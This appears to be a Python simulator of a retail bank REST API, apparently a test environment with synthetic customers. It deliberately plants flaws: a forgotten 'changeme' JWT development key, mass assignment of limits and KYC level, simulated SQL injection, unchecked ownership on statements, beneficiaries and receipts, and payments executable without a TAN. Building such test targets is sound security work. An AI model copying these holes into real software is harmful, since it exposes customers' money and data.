"""A retail bank in the manner of Spring Boot: JWT access tokens of 15 minutes with refresh tokens, problem+json and Spring error
bodies, HATEOAS pages, actuator; accounts by IBAN, cards by UUID, long numeric ids, SMS-TAN step-up, staff on an internal zone,
two open-banking third parties with consents, a nightly fraud batch and an administration API. Client addresses are direct."""
from heldout_core import *

REASON.update({406: 'Not Acceptable', 410: 'Gone', 413: 'Payload Too Large', 415: 'Unsupported Media Type', 423: 'Locked', 504: 'Gateway Timeout'})
HOST = 'api.aureliabank.example'
GIVEN = 'Anna Jonas Lukas Marie Sophie Finn Leon Emma Paul Lena Felix Clara Hugo Camille Louis Chloe Lucas Ines Javier Lucia Pablo Marta Giulia Marco Chiara Luca Sven Femke Daan Sanne Katarzyna Piotr Zofia Jakub Elif Mehmet Aylin Tomas Jana Petra Henrik Ida Oskar Nora Birgit Klaus Ursula Dieter Aisha Omar'.split()
FAMILY = 'Mueller Schmidt Schneider Fischer Weber Wagner Becker Hoffmann Koch Richter Klein Wolf Neumann Braun Krueger Dubois Martin Lefevre Moreau Girard Garcia Lopez Navarro Ruiz Rossi Ferrari Conti Greco deVries Jansen Bakker Visser Kowalski Nowak Wisniewska Yilmaz Demir Kaya Novak Dvorak Lindberg Hansen Virtanen Gruber Huber Steiner Haddad Popescu'.split()
SHOPS = ['REWE Markt', 'Lidl', 'EDEKA', 'DB Vertrieb', 'Stadtwerke', 'Spotify', 'Amazon EU', 'Apotheke am Markt', 'Shell', 'IKEA', 'Carrefour', 'Mercadona', 'Albert Heijn', 'Vodafone', 'Allianz', 'Miete']
BIC = 'AURLDEFFXXX'


def iban_of(no, blz='37099900'):
    b = f'{blz}{no:010}'; return f'DE{98 - int(b + "131400") % 97:02}{b}'


def iban_ok(s):
    s = str(s).replace(' ', '')
    if not re.fullmatch(r'[A-Z]{2}\d{2}[A-Z0-9]{11,30}', s): return False
    return int(''.join(str(int(c, 36)) for c in s[4:] + s[:4])) % 97 == 1


def rs256(p, key):
    out, i = b'', 0
    while len(out) < 256: out += hmac.new(f'{key}{i}'.encode(), p.encode(), hashlib.sha512).digest(); i += 1
    return b64(out[:256])


def iso(t):
    return time.strftime('%Y-%m-%dT%H:%M:%S', time.gmtime(t)) + f'.{int(t * 1000) % 1000:03}+00:00'


def day(t):
    return time.strftime('%Y-%m-%d', time.gmtime(t))


class Bank(App):
    server = 'envoy'
    base_lat = .022
    def __init__(s, rng, st, growth):
        super().__init__(rng); s.st, s.growth = st, growth; s.keys = {'aur-2026-04': 'k1-private', 'aur-2026-06': 'k2-private'}; s.cust, s.by_login, s.acc, s.cards, s.pay, s.ben, s.so, s.stm, s.loan, s.msg, s.att = ({} for _ in range(11))
        s.staff, s.tpp, s.consent, s.rt, s.ch, s.onb, s.task, s.quote, s.obp = ({} for _ in range(9))
        s.n = dict(acc=4711000210, pay=700140022310, ben=50310044120, so=3100224410, stm=88014403311, loan=6600114020, msg=920014411, att=410220917, task=77120455, ob=8800142201)
        s.fail, s.wrong, s.bonus, s.hook, s.flags, s.beta = [], Counter(), {}, {}, {}, None; s.codes = {f'SOMMER-{rng.randint(10000, 99999)}' for _ in range(6)}; s.zkey = 'mob-legacy-7f31c0a9d2'
    def nid(s, k, step=3): s.n[k] += s.rng.randint(1, step); return s.n[k]
    # --- data
    def customer(s, passive=False, accounts=None):
        r = s.rng
        while True:
            cid = str(r.randint(20000000, 69999999))
            if cid not in s.cust: break
        g, f = r.choice(GIVEN), r.choice(FAMILY)
        c = dict(cid=cid, given=g, family=f, email=f'{g}.{f}{r.randint(1, 999)}@{r.choice(["mail", "post", "web", "courriel"])}.example'.lower(), tel=f'+49 15{r.randint(1, 9)} {r.randint(1000000, 9999999)}', born=f'{r.randint(1940, 2005)}-{r.randint(1, 12):02}-{r.randint(1, 28):02}', pw=f'{r.choice(WORDS).title()}{r.choice("!#?+")}{r.randint(100, 9999)}', seg=r.choice(['RETAIL'] * 8 + ['PRIVATE', 'BUSINESS']), kyc='BASIC', limit=3000, accs=[], cards=[], bens=[], sos=[], loans=[], msgs=[], devs=[], locked=False, passive=passive)
        s.cust[cid] = c; s.by_login[cid] = s.by_login[c['email']] = c
        for _ in range(accounts or r.choice([1, 1, 1, 2, 2, 3])): s.account(c, 1 if passive else None)
        if passive: return c
        for a in c['accs'][:r.randint(1, 2)]: s.card(c, a)
        for _ in range(int(r.lognormvariate(1.2, .7)) + 1): s.newben(c, iban_of(r.randint(10 ** 6, 10 ** 9), r.choice(['50010517', '20041133', '10070024'])), f'{r.choice(GIVEN)} {r.choice(FAMILY)}')
        for _ in range(r.choice([0, 1, 1, 2, 3])): s.newso(c, c['accs'][0], r.choice([b for b in c['bens']]), r.choice([25, 50, 120, 850]))
        if r.random() < .3: n = str(s.nid('loan', 9)); s.loan[n] = dict(no=n, cid=cid, amount=r.choice([5000, 12000, 20000, 180000]), rate=r.choice([3.9, 4.75, 6.2]), months=r.choice([36, 60, 84, 240])); c['loans'].append(n)
        for _ in range(r.randint(1, 5)): s.newmsg(c, r.choice(['Your statement is available', 'Change of terms', 'Your adviser has answered', 'Security notice']), r.random() < .5)
        return c
    def account(s, c, nst=None):
        r = s.rng; ib = iban_of(s.nid('acc', 5)); s.acc[ib] = dict(iban=ib, cid=c['cid'], readers=[], kind='GIRO' if not c['accs'] else 'SAVINGS', bal=round(r.lognormvariate(7.3, 1.3), 2), stm=[], ntx=r.randint(40, 160))
        c['accs'].append(ib)
        for k in range(nst or r.randint(6, 14)): n = s.nid('stm', 3); s.stm[n] = dict(id=n, iban=ib, k=k); s.acc[ib]['stm'].append(n)
        return ib
    def card(s, c, ib): k = uid(s.rng); s.cards[k] = dict(id=k, cid=c['cid'], iban=ib, pan=f'5229 **** **** {s.rng.randint(1000, 9999)}', state='ACTIVE', limit=1000); c['cards'].append(k)
    def newben(s, c, ib, name): n = s.nid('ben', 4); s.ben[n] = dict(id=n, cid=c['cid'], iban=ib, name=name); c['bens'].append(n); return n
    def newso(s, c, ib, ben, amount):
        n = s.nid('so', 4)
        s.so[n] = dict(id=n, cid=c['cid'], debtorIban=ib, creditorIban=s.ben[ben]['iban'], creditorName=s.ben[ben]['name'], amount=amount, interval=s.rng.choice(['MONTHLY', 'MONTHLY', 'QUARTERLY']), nextExecution='2026-07-01')
        c['sos'].append(n); return n
    def newmsg(s, c, subject, att=False, frm='BANK'):
        n = s.nid('msg', 4); a = None
        if att: a = s.nid('att', 3); s.att[a] = dict(id=a, cid=c['cid'])
        s.msg[n] = dict(id=n, cid=c['cid'], subject=subject, att=a, frm=frm, read=False); c['msgs'].append(n); return n
    def newtask(s, c, kind): n = s.nid('task', 2); s.task[n] = dict(id=n, cid=c['cid'], kind=kind, state='OPEN'); return n
    # --- errors, pages
    def problem(s, rq, st, title, detail, typ='about:blank', **x): return Rs(st, dict(type=typ, title=title, status=st, detail=detail, instance=rq.path, **x), ct='application/problem+json')
    def spring(s, rq, st, h=None, **x): return Rs(st, dict(timestamp=iso(rq.now), status=st, error=REASON.get(st, 'Error'), **x, path=rq.path), h)
    def nf(s, rq, what, i): return s.problem(rq, 404, 'Not Found', f'{what} {i} was not found', f'https://errors.aureliabank.example/{what.lower().replace(" ", "-")}-not-found')
    def invalid(s, rq, *f): return s.problem(rq, 400, 'Bad Request', 'Validation failed', 'https://errors.aureliabank.example/validation', errors=[dict(field=a, message=b) for a, b in f])
    def page(s, rq, items, rel, dsize=20):
        try: n, size = max(0, int(rq.q.get('page', 0))), max(1, int(rq.q.get('size', dsize)))
        except ValueError: n, size = 0, dsize
        size = min(size, 2000); tot = (len(items) + size - 1) // size; L = lambda k: dict(href=f'https://{HOST}{rq.path}?page={k}&size={size}'); links = dict(first=L(0), self=L(n), last=L(max(0, tot - 1)))
        if n + 1 < tot: links['next'] = L(n + 1)
        o = {}; part = items[n * size:(n + 1) * size]
        if part: o['_embedded'] = {rel: part}
        return 200, dict(o, _links=links, page=dict(size=size, totalElements=len(items), totalPages=tot, number=n))
    def link(s, o, path): return dict(o, _links=dict(self=dict(href=f'https://{HOST}{path}')))
    # --- tokens
    def mint(s, sub, roles, now, ttl=900, kid=None, **x):
        kid = kid or ('aur-2026-04' if now < s.st + 9 * DAY else 'aur-2026-06')
        p = b64(json.dumps({'kid': kid, 'typ': 'JWT', 'alg': 'RS256'}, separators=(',', ':')).encode()) + '.' + b64(json.dumps(dict(iss=f'https://{HOST}', sub=sub, aud='aurelia-api', iat=int(now), exp=int(now) + ttl, jti=uid(s.rng), roles=roles, **x), separators=(',', ':')).encode())
        return p + '.' + rs256(p, s.keys[kid])
    def verify(s, t):
        p = t.split('.')
        if len(p) != 3: return None
        try: h, c = (json.loads(base64.urlsafe_b64decode(x + '===')) for x in p[:2])
        except ValueError: return None
        if h.get('alg') == 'RS256' and h.get('kid') in s.keys: return c if hmac.compare_digest(p[2], rs256(f'{p[0]}.{p[1]}', s.keys[h['kid']])) else None
        if h.get('alg') == 'HS256' and h.get('kid') == 'local-dev':        # forgotten development key
            return jwt_ok(t, 'changeme')
        return None
    def authenticate(s, rq, kw):
        need = kw.get('auth', 'CUSTOMER'); a = rq.h.get('authorization', ''); rq.c = rq.claims = None
        if a.startswith('Bearer '):
            cl = s.verify(a[7:])
            if cl is None:
                if need != 'none': return s.spring(rq, 401, {'WWW-Authenticate': 'Bearer error="invalid_token", error_description="An error occurred while attempting to decode the Jwt: Signed JWT rejected: Invalid signature"'})
            elif cl.get('exp', 0) < rq.now:
                rq.user = str(cl.get('sub'))
                if need != 'none':
                    return s.spring(rq, 401, {'WWW-Authenticate': f'Bearer error="invalid_token", error_description="An error occurred while attempting to decode the Jwt: Jwt expired at {time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime(cl["exp"]))}"'})
            else: rq.claims, rq.user = cl, str(cl['sub']); rq.c = s.cust.get(rq.user)
        if need == 'none': return None
        if rq.claims is None: return s.spring(rq, 401, {'WWW-Authenticate': 'Bearer'})
        roles = rq.claims.get('roles', [])
        if need == 'any': return None
        if not any(x in roles for x in need.split('|')) or (need == 'CUSTOMER' and rq.c is None): return s.spring(rq, 403, {'WWW-Authenticate': 'Bearer error="insufficient_scope"'}, message='Access Denied')
    def handle(s, rq):
        hit = s.find(rq.m, rq.path); tpl = hit[0] if hit else rq.path
        if any(a <= rq.now < b for a, b in s.down) and s.rng.random() < .85: return Rs(503, 'upstream connect error or disconnect/reset before headers. reset reason: connection failure', ct='text/plain', lat=.003), tpl
        if hit is None: r = s.spring(rq, 404) if rq.h.get('authorization') or s.open_path(rq.path) else s.spring(rq, 401, {'WWW-Authenticate': 'Bearer'})
        elif hit[1] is None: r = s.problem(rq, 405, 'Method Not Allowed', f"Method '{rq.m}' is not supported."); r.h['Allow'] = ', '.join(sorted(m for m, _, t, _, _ in s.table if t == tpl))
        else:
            if rq.m in ('POST', 'PUT', 'PATCH') and rq.body and 'form' not in rq.h.get('content-type', ''):
                try: json.loads(rq.body); bad = None
                except ValueError: bad = s.problem(rq, 400, 'Bad Request', 'Failed to read request')
            else: bad = None
            r = s.authenticate(rq, hit[2])
            if r is None and any(t == tpl and a <= rq.now < b for t, a, b in s.fail): r = s.spring(rq, 500); r.lat = .9
            if r is None and rq.q.get('sort') and not re.fullmatch(r'[\w.]+(,(asc|desc))?', rq.q['sort']): r = s.problem(rq, 400, 'Bad Request', f"No property '{rq.q['sort'][:60]}' found for type 'Booking'")
            r = r or bad or hit[1](rq, *hit[3])
            if isinstance(r, tuple): r = Rs(*r)
        if isinstance(r.body, dict) and r.ct is None and '_links' in r.body: r.ct = 'application/hal+json'
        r.h = {'X-Content-Type-Options': 'nosniff', 'Cache-Control': 'no-cache, no-store, max-age=0, must-revalidate', 'X-Frame-Options': 'DENY', **r.h}
        if r.lat is None: r.lat = s.base_lat * s.rng.lognormvariate(0, .5)
        r.h['x-envoy-upstream-service-time'] = str(int(r.lat * 1000)); return r, tpl
    def open_path(s, p): return p.startswith(('/public', '/actuator', '/mobile'))
    # --- sign-in
    @route('POST', '/auth/token', auth='none')
    def token(s, rq):
        j = rq.json if isinstance(rq.json, dict) else {}
        if not j.get('username') or not j.get('password'): return s.invalid(rq, ('username' if not j.get('username') else 'password', 'must not be blank'))
        c = s.by_login.get(str(j['username']).lower())
        if c and c['locked']: return s.problem(rq, 423, 'Locked', 'User account is locked')
        if not c or c['pw'] != j['password']:
            if c: s.wrong[c['cid']] += 1; c['locked'] = s.wrong[c['cid']] >= 6
            r = s.problem(rq, 401, 'Unauthorized', 'Bad credentials'); r.lat = .19; return r
        s.wrong[c['cid']] = 0; return s.grant(rq, c['cid'], ['CUSTOMER'])
    def grant(s, rq, sub, roles, rt=None, **x):
        if not rt: rt = b64(s.rng.randbytes(32)); s.rt[rt] = (sub, roles, rq.now)
        rq.user = sub; return Rs(200, dict(access_token=s.mint(sub, roles, rq.now, **x), token_type='Bearer', expires_in=900, refresh_token=rt, scope='openid banking' if 'CUSTOMER' in roles else 'staff'), lat=.21 if not x.get('q') else .04)
    @route('POST', '/auth/refresh', auth='none')
    def refresh(s, rq):
        v = s.rt.get(str(rq.json.get('refresh_token') if isinstance(rq.json, dict) else ''))
        if not v or rq.now - v[2] > 30 * DAY: return s.problem(rq, 401, 'Unauthorized', 'Refresh token is invalid or expired')
        return s.grant(rq, v[0], v[1], rq.json['refresh_token'])
    @route('POST', '/auth/logout', auth='any')
    def logout(s, rq): s.rt.pop(str(rq.json.get('refresh_token')), None); return 204, None
    @route('POST', '/auth/staff/token', auth='none')
    def stoken(s, rq):
        j = rq.json if isinstance(rq.json, dict) else {}; e = s.staff.get(str(j.get('username')))
        if not e or e['pw'] != j.get('password'): return s.problem(rq, 401, 'Unauthorized', 'Bad credentials')
        return s.grant(rq, e['id'], [e['role']] + ['STAFF'])
    @route('POST', '/auth/password', auth='CUSTOMER')
    def password(s, rq):
        j = rq.json
        if j.get('oldPassword') != rq.c['pw']: return s.problem(rq, 422, 'Unprocessable Entity', 'Current password does not match')
        rq.c['pw'] = str(j.get('newPassword')); return 204, None
    @route('POST', '/oauth2/token', auth='none')
    def otoken(s, rq):
        a = rq.h.get('authorization', '')
        try: n, _, p = base64.b64decode(a[6:] + '==').decode().partition(':')
        except ValueError: n = p = ''
        t = s.tpp.get(n)
        if not t or t['secret'] != p or rq.form.get('grant_type') != 'client_credentials': return Rs(401, {'error': 'invalid_client'}, {'WWW-Authenticate': 'Basic realm="oauth2"'})
        rq.user = n; return Rs(200, dict(access_token=s.mint(n, [t['role']], rq.now, 3600, scope=t['scope']), token_type='Bearer', expires_in=3600, scope=t['scope']), lat=.05)
    # --- onboarding
    @route('GET', '/public/onboarding/email-check', auth='none')
    def emailcheck(s, rq):
        e = rq.q.get('email', '').lower()
        if '@' not in e: return s.invalid(rq, ('email', 'must be a well-formed email address'))
        return 200, dict(email=e, available=e not in s.by_login)
    @route('POST', '/public/onboarding/applications', auth='none')
    def onboard(s, rq):
        j = rq.json; miss = [k for k in ('givenName', 'familyName', 'email', 'phone', 'birthDate') if not j.get(k)]
        if miss: return s.invalid(rq, *[(k, 'must not be blank') for k in miss])
        if j['email'].lower() in s.by_login: return s.problem(rq, 409, 'Conflict', 'A customer with this e-mail already exists')
        k = uid(s.rng); s.onb[k] = dict(j, step=1); return Rs(201, s.link(dict(applicationId=k, state='IDENTIFICATION'), f'/public/onboarding/applications/{k}'), {'Location': f'https://{HOST}/public/onboarding/applications/{k}'})
    @route('PUT', '/public/onboarding/applications/{id}/identification', auth='none')
    def identify(s, rq, k):
        if k not in s.onb: return s.nf(rq, 'Application', k)
        s.onb[k]['step'] = 2; return Rs(200, dict(applicationId=k, state='READY', method=rq.json.get('method')), lat=.6)
    @route('POST', '/public/onboarding/applications/{id}/submit', auth='none')
    def submit(s, rq, k):
        o = s.onb.get(k)
        if not o or o['step'] != 2: return s.problem(rq, 409, 'Conflict', 'Application is not ready')
        c = s.customer(accounts=1); s.by_login.pop(c['email'])
        c.update(given=o['givenName'], family=o['familyName'], email=o['email'].lower(), tel=o['phone'], born=o['birthDate'], pw=str(rq.json.get('password')), loans=[], sos=[], bens=[]); s.by_login[c['email']] = c
        for a in c['accs']: s.acc[a].update(bal=0., ntx=0, stm=[])
        o['step'] = 3; return Rs(201, dict(customerNumber=c['cid'], iban=c['accs'][0], state='ACTIVE'), lat=.5)
    # --- customer
    def prof(s, c):
        return s.link(dict(customerNumber=c['cid'], givenName=c['given'], familyName=c['family'], email=c['email'], phone=c['tel'], birthDate=c['born'], segment=c['seg'], kycLevel=c['kyc'], dailyLimit=c['limit'], language=c.get('language', 'de'), marketingConsent=c.get('marketingConsent', False)), '/api/v1/customers/me')
    @route('GET', '/api/v1/customers/me')
    def me(s, rq): return 200, s.prof(rq.c)
    @route('PATCH', '/api/v1/customers/me')
    def mepatch(s, rq):
        j = rq.json
        m = dict(email='email', phone='tel', language='language', marketingConsent='marketingConsent', segment='seg', kycLevel='kyc', dailyLimit='limit')     # binds the whole entity
        if 'email' in j and '@' not in str(j['email']): return s.invalid(rq, ('email', 'must be a well-formed email address'))
        for k, v in j.items():
            if k in m: rq.c[m[k]] = v
        return 200, s.prof(rq.c)
    def accs(s, c): return [a for a in s.acc.values() if a['cid'] == c['cid']] if c['passive'] else [s.acc[i] for i in c['accs']] + [s.acc[i] for i in c.get('poa', [])]
    def accview(s, rq, a):
        o = dict(iban=a['iban'], bic=BIC, product=a['kind'], currency='EUR', balance=round(a['bal'], 2))
        if rq.now > s.st + 9 * DAY + 1.5 * HOUR:      # release 2026.6: harmless new fields
            o.update(availableBalance=round(a['bal'] + 500, 2), displayColor='#0a5', adviser=dict(name='Team Digital', phone='+49 69 555 0100', email='team.digital@aureliabank.example'))
        return s.link(o, f'/api/v1/accounts/{a["iban"]}')
    @route('GET', '/api/v1/accounts')
    def accounts(s, rq): return s.page(rq, [s.accview(rq, a) for a in s.accs(rq.c)], 'accounts')
    def mine(s, rq, ib): a = s.acc.get(ib); return a if a and (a['cid'] == rq.c['cid'] or rq.c['cid'] in a['readers']) else None
    @route('GET', '/api/v1/accounts/{iban}')
    def account_(s, rq, ib): a = s.mine(rq, ib); return (200, s.accview(rq, a)) if a else s.nf(rq, 'Account', ib)
    def tx(s, a, k, now):
        r = random.Random(f'{a["iban"]}{k}')
        return dict(bookingId=r.randint(10 ** 11, 10 ** 12), bookingDate=day(now - (k + 1) * 1.7 * DAY), amount=round(r.choice([-1, -1, -1, 1]) * r.lognormvariate(3.5, 1.1), 2), currency='EUR', counterparty=r.choice(SHOPS), remittance=r.choice(['Lastschrift', 'Kartenzahlung', 'Rechnung 20' + str(r.randint(100, 999)), 'Dauerauftrag', 'Gehalt']))
    def bookings(s, rq, a):
        q = rq.q.get('search', ''); ks = [s.tx(a, k, rq.now) for k in range(a['ntx'])]
        if q:
            if re.search(r"'\s*(union|or)\b.*(--|#|')", q, re.I):       # native query: the string is not bound
                if re.search(r'union', q, re.I) and q.count(',') != 4:
                    return Rs(500, dict(timestamp=iso(rq.now), status=500, error='Internal Server Error', message='could not execute query; SQL [n/a]: each UNION query must have the same number of columns', path=rq.path), lat=.06)
                rows = [dict(s.tx(x, 0, rq.now), counterparty=s.cust[x['cid']]['given'] + ' ' + s.cust[x['cid']]['family'], remittance=x['iban'] if re.search('union', q, re.I) else 'Gehalt') for x in s.rng.sample(list(s.acc.values()), 60)]
                return s.page(rq, rows, 'bookings')
            if q.count("'") % 2: return Rs(500, dict(timestamp=iso(rq.now), status=500, error='Internal Server Error', message='could not execute query; SQL [n/a]: unterminated quoted string', path=rq.path), lat=.05)
            ks = [t for t in ks if q.lower() in t['counterparty'].lower() or q.lower() in t['remittance'].lower()]
        try: n = int(rq.q.get('size', 20))
        except ValueError: n = 20
        r = Rs(*s.page(rq, ks, 'bookings'))
        if n > 2000: r.lat = min(9, n / 12000)
        return r
    @route('GET', '/api/v1/accounts/{iban}/transactions')
    def txs(s, rq, ib): a = s.mine(rq, ib); return s.bookings(rq, a) if a else s.nf(rq, 'Account', ib)
    @route('GET', '/api/v1/accounts/{iban}/statements')
    def stms(s, rq, ib):
        a = s.mine(rq, ib); return s.page(rq, [s.link(dict(id=n, number=f'{s.stm[n]["k"] + 1}/2026', format='PDF'), f'/api/v1/accounts/{ib}/statements/{n}') for n in a['stm']], 'statements', 12) if a else s.nf(rq, 'Account', ib)
    @route('GET', '/api/v1/accounts/{iban}/statements/{id}')
    def stm_(s, rq, ib, n):
        if not s.mine(rq, ib): return s.nf(rq, 'Account', ib)
        if not n.isdigit(): return s.problem(rq, 400, 'Bad Request', f"Failed to convert 'id' with value: '{n[:40]}'")
        if int(n) not in s.stm:         # only the IBAN of the path is checked
            return s.nf(rq, 'Statement', n)
        return Rs(200, b'%PDF-1.7\n' + random.Random(n).randbytes(2600 + int(n) % 1700), {'Content-Disposition': f'attachment; filename="Kontoauszug_{n}.pdf"'}, ct='application/pdf', lat=.16)
    # --- new generation of the app (5.9)
    @route('GET', '/api/v2/home')
    def home(s, rq):
        return 200, dict(accounts=[s.accview(rq, a) for a in s.accs(rq.c)], cards=[s.cardview(k) for k in rq.c['cards']], unread=sum(not s.msg[m]['read'] for m in rq.c['msgs']), greeting=rq.c['given'], tiles=['pay', 'cards', 'insights'])
    @route('GET', '/api/v2/accounts/{iban}/transactions')
    def txs2(s, rq, ib):
        a = s.mine(rq, ib)
        if not a: return s.nf(rq, 'Account', ib)
        k = int(rq.q['cursor'], 16) if re.fullmatch(r'[0-9a-f]{6}', rq.q.get('cursor', '')) else 0
        return 200, dict(items=[s.tx(a, i, rq.now) for i in range(k, min(k + 25, a['ntx']))], nextCursor=f'{k + 25:06x}' if k + 25 < a['ntx'] else None)
    # --- cards
    def cardview(s, k): c = s.cards[k]; return s.link(dict(id=k, maskedPan=c['pan'], iban=c['iban'], state=c['state'], dailyLimit=c['limit']), f'/api/v1/cards/{k}')
    @route('GET', '/api/v1/cards')
    def cards_(s, rq): return s.page(rq, [s.cardview(k) for k in rq.c['cards']], 'cards')
    @route('GET', '/api/v1/cards/{id}')
    def card_(s, rq, k): return (200, s.cardview(k)) if k in rq.c['cards'] else s.nf(rq, 'Card', k)
    @route('POST', '/api/v1/cards/{id}/block')
    def cblock(s, rq, k):
        if k not in rq.c['cards']: return s.nf(rq, 'Card', k)
        s.cards[k]['state'] = 'BLOCKED'; return 200, s.cardview(k)
    @route('POST', '/api/v1/cards/{id}/unblock')
    def cunblock(s, rq, k):
        if k not in rq.c['cards']: return s.nf(rq, 'Card', k)
        s.cards[k]['state'] = 'ACTIVE'; return 200, s.cardview(k)
    @route('PUT', '/api/v1/cards/{id}/limits')
    def climit(s, rq, k):
        if k not in rq.c['cards']: return s.nf(rq, 'Card', k)
        v = rq.json.get('dailyLimit')
        if not isinstance(v, int) or not 0 <= v <= 5000: return s.invalid(rq, ('dailyLimit', 'must be less than or equal to 5000'))
        s.cards[k]['limit'] = v; return 200, s.cardview(k)
    # --- beneficiaries and payments
    def benview(s, n): b = s.ben[n]; return s.link(dict(id=n, name=b['name'], iban=b['iban']), f'/api/v1/beneficiaries/{n}')
    @route('GET', '/api/v1/beneficiaries')
    def bens(s, rq): return s.page(rq, [s.benview(n) for n in rq.c['bens']], 'beneficiaries')
    @route('GET', '/api/v1/beneficiaries/{id}')
    def ben_(s, rq, n): return (200, s.benview(int(n))) if n.isdigit() and int(n) in s.ben else s.nf(rq, 'Beneficiary', n)      # owner is not checked
    @route('POST', '/api/v1/beneficiaries')
    def nben(s, rq):
        j = rq.json
        if not iban_ok(j.get('iban', '')): return s.invalid(rq, ('iban', 'is not a valid IBAN'))
        n = s.newben(rq.c, j['iban'], j.get('name', '')); return Rs(201, s.benview(n), {'Location': f'https://{HOST}/api/v1/beneficiaries/{n}'})
    @route('DELETE', '/api/v1/beneficiaries/{id}')
    def dben(s, rq, n):
        if not n.isdigit() or int(n) not in rq.c['bens']: return s.nf(rq, 'Beneficiary', n)
        rq.c['bens'].remove(int(n)); s.ben.pop(int(n)); return 204, None
    @route('POST', '/api/v1/payee-verifications')
    def vop(s, rq):
        j = rq.json; ib = str(j.get('iban', ''))
        if not iban_ok(ib): return s.invalid(rq, ('iban', 'is not a valid IBAN'))
        a = s.acc.get(ib)
        if not a: return Rs(200, dict(result='NOT_POSSIBLE' if ib[4:12] == '37099900' else 'MATCH'), lat=.3)
        c = s.cust[a['cid']]; ok = str(j.get('name', '')).lower() == f'{c["given"]} {c["family"]}'.lower(); return Rs(200, dict(result='MATCH') if ok else dict(result='CLOSE_MATCH', suggestedName=f'{c["given"]} {c["family"]}'), lat=.12)
    def payview(s, rq, p):
        o = {k: p[k] for k in ('id', 'state', 'debtorIban', 'creditorIban', 'creditorName', 'amount', 'currency', 'remittance', 'created')}
        if s.growth and s.growth < rq.now < s.growth + 4 * DAY:
            r = random.Random(p['creditorIban'])
            o['creditorParty'] = dict(taxId=f'{r.randint(10 ** 10, 10 ** 11 - 1)}', birthDate=f'19{r.randint(40, 99)}-{r.randint(1, 12):02}-{r.randint(10, 28)}', phone=f'+49 17{r.randint(1, 9)} {r.randint(1000000, 9999999)}', email=f'{r.choice(GIVEN)}.{r.choice(FAMILY)}@mail.example'.lower(), address=f'{r.choice(FAMILY)}str. {r.randint(1, 90)}, {r.randint(10000, 99999)}', riskScore=r.randint(1, 99))
        return s.link(o, f'/api/v1/payments/{p["id"]}')
    @route('GET', '/api/v1/payments')
    def pays(s, rq): return s.page(rq, [s.link(dict(id=p['id'], state=p['state'], amount=p['amount'], creditorName=p['creditorName']), f'/api/v1/payments/{p["id"]}') for p in s.pay.values() if p['cid'] == rq.c['cid']][::-1], 'payments', 10)
    @route('GET', '/api/v1/payments/{id}')
    def pay_(s, rq, n): p = s.pay.get(int(n)) if n.isdigit() else None; return (200, s.payview(rq, p)) if p and p['cid'] == rq.c['cid'] else s.nf(rq, 'Payment', n)
    @route('GET', '/api/v1/payments/{id}/receipt')
    def receipt(s, rq, n):
        p = s.pay.get(int(n)) if n.isdigit() else None        # owner is not checked
        return (200, s.link(dict({k: p[k] for k in ('id', 'debtorIban', 'creditorIban', 'creditorName', 'amount', 'remittance', 'created')}, debtorName=s.cust[p['cid']]['given'] + ' ' + s.cust[p['cid']]['family']), rq.path)) if p else s.nf(rq, 'Payment', n)
    def newpay(s, c, d, cr, name, amount, now, rem='', state='PENDING_TAN'):
        n = s.nid('pay', 2); s.pay[n] = dict(id=n, cid=c['cid'], state=state, debtorIban=d, creditorIban=cr, creditorName=name, amount=amount, currency='EUR', remittance=rem, created=iso(now), tans=0); return s.pay[n]
    @route('POST', '/api/v1/payments')
    def npay(s, rq):
        j = rq.json; c = rq.c; bad = []
        if not isinstance(j.get('amount'), (int, float)): bad.append(('amount', 'must not be null'))
        if not iban_ok(j.get('creditorIban', '')): bad.append(('creditorIban', 'is not a valid IBAN'))
        if bad: return s.invalid(rq, *bad)
        if not s.mine(rq, j.get('debtorIban')): return s.nf(rq, 'Account', j.get('debtorIban'))
        if j['amount'] > c['limit']: return s.problem(rq, 422, 'Unprocessable Entity', f'Amount exceeds the daily limit of {c["limit"]} EUR', 'https://errors.aureliabank.example/limit-exceeded')
        k = rq.h.get('idempotency-key')
        for p in list(s.pay.values())[-40:]:
            if k and p.get('key') == k: return s.problem(rq, 409, 'Conflict', 'A payment with this Idempotency-Key exists')
        p = s.newpay(c, j['debtorIban'], j['creditorIban'], j.get('creditorName', ''), j['amount'], rq.now, j.get('remittance', '')); p['key'] = k; own = j['creditorIban'] in c['accs'] or j['amount'] <= 0
        if own: p['state'] = 'READY'
        return Rs(201, dict(s.payview(rq, p), scaRequired=not own), {'Location': f'https://{HOST}/api/v1/payments/{p["id"]}'}, lat=.08)
    @route('POST', '/api/v1/payments/{id}/tan-requests')
    def tanreq(s, rq, n):
        p = s.pay.get(int(n)) if n.isdigit() else None
        if not p or p['cid'] != rq.c['cid']: return s.nf(rq, 'Payment', n)
        k = uid(s.rng); s.ch[k] = dict(pay=p['id'], tan=f'{s.rng.randint(0, 999999):06}', left=3, t=rq.now)
        return Rs(202, dict(challengeId=k, method='SMS_TAN', maskedPhone=rq.c['tel'][:6] + '*****' + rq.c['tel'][-2:], validSeconds=300), lat=.25)
    @route('POST', '/api/v1/payments/{id}/authorisations')
    def authz(s, rq, n):
        j = rq.json; p, ch = s.pay.get(int(n)) if n.isdigit() else None, s.ch.get(j.get('challengeId'))
        if not p or p['cid'] != rq.c['cid'] or not ch or ch['pay'] != p['id']: return s.nf(rq, 'Challenge', j.get('challengeId'))
        if rq.now - ch['t'] > 300: return s.problem(rq, 410, 'Gone', 'The TAN has expired')
        if ch['left'] <= 0: return s.problem(rq, 409, 'Conflict', 'No attempts left for this challenge')
        if str(j.get('tan')) != ch['tan']: ch['left'] -= 1; return s.problem(rq, 422, 'Unprocessable Entity', 'The TAN is not correct', 'https://errors.aureliabank.example/tan-invalid', attemptsLeft=ch['left'])
        p['state'] = 'READY'; return 200, dict(paymentId=p['id'], state='READY')
    @route('POST', '/api/v1/payments/{id}/execution')
    def execute(s, rq, n):
        p = s.pay.get(int(n)) if n.isdigit() else None
        if not p or p['cid'] != rq.c['cid']: return s.nf(rq, 'Payment', n)
        if p['state'] == 'BOOKED': return s.problem(rq, 409, 'Conflict', 'Payment is already booked')
        p['state'] = 'BOOKED'               # PENDING_TAN is not refused
        s.acc[p['debtorIban']]['bal'] -= p['amount']
        if p['creditorIban'] in s.acc: s.acc[p['creditorIban']]['bal'] += p['amount']
        return Rs(200, s.payview(rq, p), lat=.12)
    # --- standing orders, loans, messages
    def soview(s, n): return s.link({k: v for k, v in s.so[n].items() if k != 'cid'}, f'/api/v1/standing-orders/{n}')
    @route('GET', '/api/v1/standing-orders')
